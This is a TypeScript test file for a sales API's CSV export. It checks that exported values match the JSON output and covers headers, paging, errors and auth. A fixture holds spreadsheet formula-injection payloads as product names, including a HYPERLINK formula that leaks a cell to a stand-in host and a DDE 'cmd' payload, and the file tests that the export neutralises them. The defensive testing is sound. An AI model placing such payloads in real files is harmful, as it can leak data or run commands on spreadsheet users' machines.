/** Any view as a CSV file: the same values as JSON, read back by a parser of its own. */
import { parse } from 'csv-parse/sync';
import type { AnswerMeta } from '../../../src/contracts/metric-contract.js';
import { ask, type BreakdownReply, type SeriesReply, type SummaryReply } from './client.js';
import { openShop, RANGE, type Shop } from './shop.js';

const HOSTILE = {
  h1: '=HYPERLINK("http://x.example/?"&A1,"Click")',
  h2: "+1+cmd|' /C calc'!A0",
  h3: '-2+3',
  h4: '@SUM(1,2)',
  h5: '＝1+1',
  h6: 'Mug, "large"\nand round',
  h7: 'Größe 😀',
};

let shop: Shop;
beforeAll(async () => {
  shop = await openShop();
  await shop.take({
    order: 'hostile',
    at: '2026-01-12T10:00:00Z',
    properties: {
      products: Object.entries(HOSTILE).map(([product_id, name]) => {
        return { product_id, name, price: 1, quantity: 1 };
      }),
    },
  });
});

const DAYS = `from=${RANGE.from}&to=${RANGE.to}`;

async function get(path: string, accept?: string) {
  const response = await fetch(`${shop.url}/api/v1/sales/${path}`, {
    headers: { authorization: `Bearer ${shop.readKey}`, ...(accept ? { accept } : {}) },
  });
  return { status: response.status, headers: response.headers, text: await response.text() };
}

const table = (text: string): Record<string, string>[] =>
  parse(text, { columns: true, record_delimiter: '\r\n' });

/** As CSV writes a row of JSON whose texts are no formulas. */
const asText = (row: object) =>
  Object.fromEntries(Object.entries(row).map(([name, value]) => [name, String(value ?? '')]));

const metaOf = (headers: Headers) => JSON.parse(headers.get('x-cartograph-meta')!) as AnswerMeta;

const METRICS = 'net_sales,refunds,orders,average_order_value';

describe('the same values as JSON', () => {
  it('in a summary', async () => {
    const { data } = await ask<SummaryReply>(shop, shop.readKey, 'summary', RANGE);
    const { text } = await get(`summary?${DAYS}&format=csv`);
    const expected = Object.entries(data).map(([metric, value]) => asText({ metric, ...value }));
    expect(table(text)).toEqual(expected);
    expect(text).toMatch(/^metric,value,unit,previous,change\r\n/);
  });

  it('in a series, where money is negative and an average is null', async () => {
    const given = { ...RANGE, metrics: METRICS, granularity: 'day' };
    const { data } = await ask<SeriesReply>(shop, shop.readKey, 'series', given);
    const { text } = await get(`series?${DAYS}&metrics=${METRICS}&granularity=day&format=csv`);
    expect(table(text)).toEqual(data.points.map(asText));
    expect(text).toMatch(new RegExp(`^at,${METRICS}\r\n`));
    expect(text).toContain('2026-01-13T00:00:00Z,-18.00,18.00,0,\r\n');
  });

  it.each(['breakdown?by=country&', 'breakdown?by=device&metrics=units&', 'top-customers?'])(
    'in %s',
    async (view) => {
      const json = await get(`${view}${DAYS}`);
      const { data } = JSON.parse(json.text) as BreakdownReply;
      const { text } = await get(`${view}${DAYS}&format=csv`);
      expect(table(text)).toEqual(data.rows.map(asText));
      expect(text).toMatch(/^key,label,/);
      expect(data.rows.length).toBeGreaterThan(1);
    },
  );

  it('and the header alone where there is nothing', async () => {
    const { text } = await get('breakdown?by=country&from=2020-01-01&to=2020-02-01&format=csv');
    expect(text).toMatch(/^key,label,gross_sales,[a-z_,]+\r\n$/);
  });
});

it('shows a hostile product as text to a spreadsheet', async () => {
  const { text } = await get(`top-products?limit=100&${DAYS}&format=csv`);
  const labels = Object.fromEntries(table(text).map(({ key, label }) => [key, label]));
  expect(labels).toMatchObject({
    ...Object.fromEntries(Object.entries(HOSTILE).map(([key, name]) => [key, `'${name}`])),
    h6: HOSTILE.h6,
    h7: HOSTILE.h7,
    p2: 'Shirt',
  });
  expect(text).not.toMatch(/(^|[,\n"])[=+@＝]/);
});

describe('the HTTP of it', () => {
  it('names the type and the file, and carries the contract', async () => {
    const json = await get(`breakdown?by=country&${DAYS}`);
    const { headers, status } = await get(`breakdown?by=country&${DAYS}&format=csv`);
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toBe(
      'attachment; filename="cartograph-sales-breakdown.csv"',
    );
    const { formula, ...meta } = (JSON.parse(json.text) as BreakdownReply).meta;
    expect(Object.keys(formula).length).toBeGreaterThan(1);
    expect(metaOf(headers)).toEqual({ ...meta, servedFrom: 'cache' });
    expect(headers.get('link')).toBeNull();
    expect(headers.get('vary')).toContain('accept');
  });

  it.each([
    ['text/csv', '', 'text/csv; charset=utf-8'],
    ['text/csv, */*;q=0.1', '', 'text/csv; charset=utf-8'],
    ['*/*', '', 'application/json; charset=utf-8'],
    ['text/csv', '&format=json', 'application/json; charset=utf-8'],
    ['application/json', '&format=csv', 'text/csv; charset=utf-8'],
  ])('answers Accept %s%s with %s', async (accept, format, type) => {
    const { headers } = await get(`summary?${DAYS}${format}`, accept);
    expect(headers.get('content-type')).toBe(type);
  });

  it('pages by the link to the next rows', async () => {
    const first = `/api/v1/sales/breakdown?by=product&metrics=units&limit=4&${DAYS}`;
    const whole = await get(`breakdown?by=product&metrics=units&limit=100&${DAYS}&format=csv`);
    const pages: Record<string, string>[][] = [];
    let next: string | undefined = first;
    while (next && pages.length < 10) {
      const { text, headers } = await get(next.replace('/api/v1/sales/', ''), 'text/csv');
      pages.push(table(text));
      next = /^<([^>]+)>; rel="next"$/.exec(headers.get('link') ?? '')?.[1];
    }
    expect(pages.map((rows) => rows.length)).toEqual([4, 4, 3]);
    expect(pages.flat()).toEqual(table(whole.text));
  });

  it.each([
    ['summary?format=xml', 400, 'invalid_parameter'],
    ['summary?format=CSV', 400, 'invalid_parameter'],
    ['summary?format=', 400, 'invalid_parameter'],
    ['summary?format=csv&format=json', 400, 'invalid_parameter'],
    ['breakdown?by=city&format=csv', 400, 'unknown_dimension'],
    ['top-products?limit=0&format=csv', 400, 'invalid_parameter'],
    ['summary?currency=CHF&format=csv', 422, 'currency_without_rate'],
  ])('refuses %s with %i %s, as a problem', async (path, status, code) => {
    const refused = await get(path, 'text/csv');
    expect(refused.status).toBe(status);
    expect(refused.headers.get('content-type')).toMatch(/^application\/problem\+json/);
    expect(refused.headers.get('content-disposition')).toBeNull();
    expect(JSON.parse(refused.text)).toMatchObject({ status, code });
  });

  it('asks for a key of the right scope', async () => {
    const path = '/api/v1/sales/summary?format=csv';
    expect((await fetch(`${shop.url}${path}`)).status).toBe(401);
    expect((await shop.get(path, await shop.key('sentiment:read'))).status).toBe(403);
  });

  it('is documented for every view', async () => {
    const document = (await (await fetch(`${shop.url}/openapi.json`)).json()) as {
      paths: Record<string, { get: { parameters: object[]; responses: { 200: object } } }>;
    };
    for (const view of ['summary', 'series', 'breakdown', 'top-products', 'top-customers']) {
      const { parameters, responses } = document.paths[`/api/v1/sales/${view}`]!.get;
      expect(parameters).toContainEqual(expect.objectContaining({ name: 'format' }));
      expect(responses[200]).toMatchObject({
        content: { 'application/json': {}, 'text/csv': {} },
        headers: { 'x-cartograph-meta': {}, link: {} },
      });
    }
  });
});
